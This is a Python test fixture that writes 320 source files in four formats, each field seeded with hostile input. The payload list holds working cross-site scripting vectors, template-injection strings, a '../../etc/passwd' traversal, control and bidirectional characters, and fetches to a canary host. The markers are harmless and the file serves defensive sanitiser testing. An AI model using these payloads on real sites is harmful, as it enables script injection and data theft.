"""Sources that try to run something, to fetch something or to break the page, in every field that a source has. 320, of
which over 300 can be read.
"""

import json
from html import escape
from pathlib import Path

COUNT = 320
CANARY = "http://canary.invalid"
_DO = "window.__pwned=1"
_GET = f"fetch('{CANARY}')"

PAYLOADS = [
    # Scripts and event handlers.
    f"<script>{_DO}</script>",
    f"<script src={CANARY}/a.js></script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"</script><script>{_DO}//",
    f'<img class=pwned src=x onerror="{_DO}">',
    f"<img class=pwned src={CANARY}/a.png>",
    f'"><img class=pwned src=x onerror={_DO}>',
    f"'><img class=pwned src=x onerror={_DO}>",
    f"<body onload={_DO}>",
    f"<input class=pwned autofocus onfocus={_DO}>",
    f"<details class=pwned open ontoggle={_DO}>",
    f"<video class=pwned src=x onerror={_DO}><source src={CANARY}/a>",
    f"<div class=pwned onmouseover={_DO} style=position:fixed;inset:0>",
    f"<marquee class=pwned onstart={_DO}>",
    f'" onmouseover="{_DO}" autofocus onfocus="{_DO}',
    f"' onclick='{_DO}' class='pwned",
    f"<a class=pwned href=javascript:{_DO}>read on</a>",
    f"<a class=pwned href=' &#1;javascript:{_DO}'>read on</a>",
    f"<a class=pwned href=data:text/html,<script>{_DO}</script>>read on</a>",
    # SVG and MathML.
    f"<svg class=pwned onload={_DO}>",
    f"<svg class=pwned><script>{_DO}</script></svg>",
    f"<svg class=pwned><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg class=pwned><use href=data:image/svg+xml,<svg id=x onload={_DO}></svg>#x>",
    f"<svg class=pwned><foreignObject><iframe srcdoc='<script>parent.{_DO}</script>'>",
    f"<math class=pwned><mtext><table><mglyph><style><img src=x onerror={_DO}>",
    f"<math class=pwned href=javascript:{_DO}>CLICK",
    # Frames, forms and what steers the whole page.
    f"<iframe class=pwned src=javascript:parent.{_DO}></iframe>",
    f"<iframe class=pwned srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<object class=pwned data={CANARY}/a></object>",
    f"<embed class=pwned src={CANARY}/a>",
    f"<meta http-equiv=refresh content='0;url={CANARY}'>",
    f"<base href={CANARY}/>",
    f"<link rel=stylesheet href={CANARY}/a.css>",
    f"<form class=pwned action={CANARY}><button>Send</button></form>",
    "<button class='pwned otr-close'>Close</button>",
    "</div></div></div></article></main></body></html>",
    "<dialog class=pwned open style=position:fixed;inset:0>over all</dialog>",
    # CSS.
    f"<style>body{{background:url({CANARY}/b)}}</style>",
    f"<style>@import '{CANARY}/c.css';</style>",
    "<style>*{display:none!important}</style>",
    f"<p class=pwned style='width:expression({_DO});background:url({CANARY}/d)'>",
    "<div class=pwned style='position:fixed;inset:0;z-index:99999;background:#fff'>",
    "</style><h1 class=pwned>out of the style</h1>",
    # Markdown.
    f"[read on](javascript:{_DO})",
    f"[read on](data:text/html;base64,PHNjcmlwdD4=) and ![]({CANARY}/e.png)",
    f"![picture](javascript:{_DO})",
    f"<javascript:{_DO}> and <{CANARY}/f>",
    f"[one]: {CANARY}/g 'and ![two][one]",
    "``` unclosed ~~~ **bold _both `code",
    "| a | b |---|--- # heading > quote - list",
    f"[x](<{CANARY}> 'onmouseover={_DO}')",
    # What is never closed.
    "<!-- a comment",
    "<![CDATA[ a section",
    "<?php echo 1; ?>",
    '<a class=pwned href="',
    "<img class=pwned title='",
    "<textarea class=pwned>",
    "<title class=pwned>",
    "<plaintext>",
    "<xmp>",
    f"<noscript><p title='</noscript><img class=pwned src=x onerror={_DO}>'>",
    f"<template class=pwned><img src=x onerror={_DO}></template>",
    f"<select class=pwned><template><img src=x onerror={_DO}>",
    "<table class=pwned><tr><td><table>",
    # Entities, escaped once and twice.
    f"&lt;img class=pwned src=x onerror={_DO}&gt;",
    f"&amp;lt;script&amp;gt;{_DO}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{_DO}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    # Holes of templates and formulas.
    f"${{{_DO}}} and `${{{_GET}}}`",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    "{{7*7}} {% raw %} {# note #} <%= 7*7 %> #{7*7}",
    "$$\\href{javascript:window.__pwned=1}{x}$$ and \\(\\unicode{x}\\)",
    "%s %n {0} {} %(name)s \\1 \\g<0>",
    # Characters.
    "null \x00 bell \x07 \x1b[31mred\x1b[0m \x1b]0;title\x07",
    "\u202egnp.exe \u202dforced \u202b embedded",
    "\u2066isolated \u2067and \u2068left open",
    "zero\u200bwidth\u200d joined\ufeff and\u00ad soft",
    "שלום עולם 123 مرحبا بالعالم",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "W" * 400,
    "A line\nand another\n\n\n<b class=pwned>bold</b>",
    "👩‍👩‍👧‍👦 𝕊𝕔𝕣𝕚𝕡𝕥 ﷽",
    "../../etc/passwd?source=x&at=0-5#top",
    "?q=<script>&person=<script>",
]
_GIVEN = ["Dora", "Anton", "Lena", "Pavel", "Ruth", "Oskar", "Irma", "Viktor", "Nadia", "Emil"]
_FAMILY = ["Quint", "Brenner", "Castell", "Dombrow", "Ellmann", "Farkas"]
SPEAKERS = [f"{given} {family}" for family in _FAMILY for given in _GIVEN]


def speaker(number: int) -> str:
    """Who speaks in a source: five sources for each speaker."""
    return SPEAKERS[number % len(SPEAKERS)]


def payload(number: int, field: int) -> str:
    """What a field of a source carries: over all sources each field has had every payload."""
    return PAYLOADS[(number + 13 * field) % len(PAYLOADS)]


def text(number: int) -> str:
    """What a source says: statements with something in the words and in the role, now and then under a heading."""
    who, said = speaker(number), payload(number, 0)
    head = "" if number % 4 else f"## Part {payload(number, 2)}\n\n"
    return (
        f"{head}{who} said on Monday that the harbour letter {said} was read aloud.\n\n"
        f'"The ferry is late," said {who}, the head of {payload(number, 3)}.'
    )


def hostile(folder: Path) -> Path:
    """Writes the sources into a folder."""
    folder.mkdir()
    for number in range(COUNT):
        kind, write = list(_KINDS.items())[number % len(_KINDS)]
        (folder / _name(number, kind)).write_text(write(number), encoding="utf-8")
    return folder


def _name(number: int, kind: str) -> str:
    # A file's name has no stroke and no null in it, and no more than 255 bytes.
    odd = payload(number, 4).replace("/", "∕").replace("\x00", "").encode()[:200].decode(errors="ignore")
    return f"{number:03d} {odd}.{kind}"


def _fields(number: int) -> dict[str, str]:
    return {
        "title": f"Letter {number} {payload(number, 5)}",
        "author": f"Writer {payload(number, 6)}",
        "publisher": f"Post {number % 7} {payload(number, 7)}",
        "date": f"2025-{number % 12 + 1:02d}-{number % 28 + 1:02d}",
        "url": payload(number, 8) if number % 2 else f"https://example.org/{number}?{payload(number, 8)}",
    }


def _markdown(number: int) -> str:
    head = "\n".join(f"{name}: {json.dumps(told, ensure_ascii=True)}" for name, told in _fields(number).items())
    return f"---\n{head}\n---\n\n{text(number)}"


def _record(number: int) -> str:
    return json.dumps({**_fields(number), "text": text(number)})


def _page(number: int) -> str:
    told = _fields(number)
    metas = "".join(f'<meta name="{name}" content="{escape(told[name])}">' for name in ("author", "publisher", "date"))
    words = "".join(f"<p>{escape(paragraph)}</p>" for paragraph in text(number).split("\n\n"))
    head = f"<title>{escape(told['title'])}</title>{metas}"
    return f"<html><head>{head}</head><body><article>{words}{payload(number, 0)}</article></body></html>"


def _plain(number: int) -> str:
    return f"{_fields(number)['title']}\n\n{text(number)}"


_KINDS = {"md": _markdown, "json": _record, "html": _page, "txt": _plain}
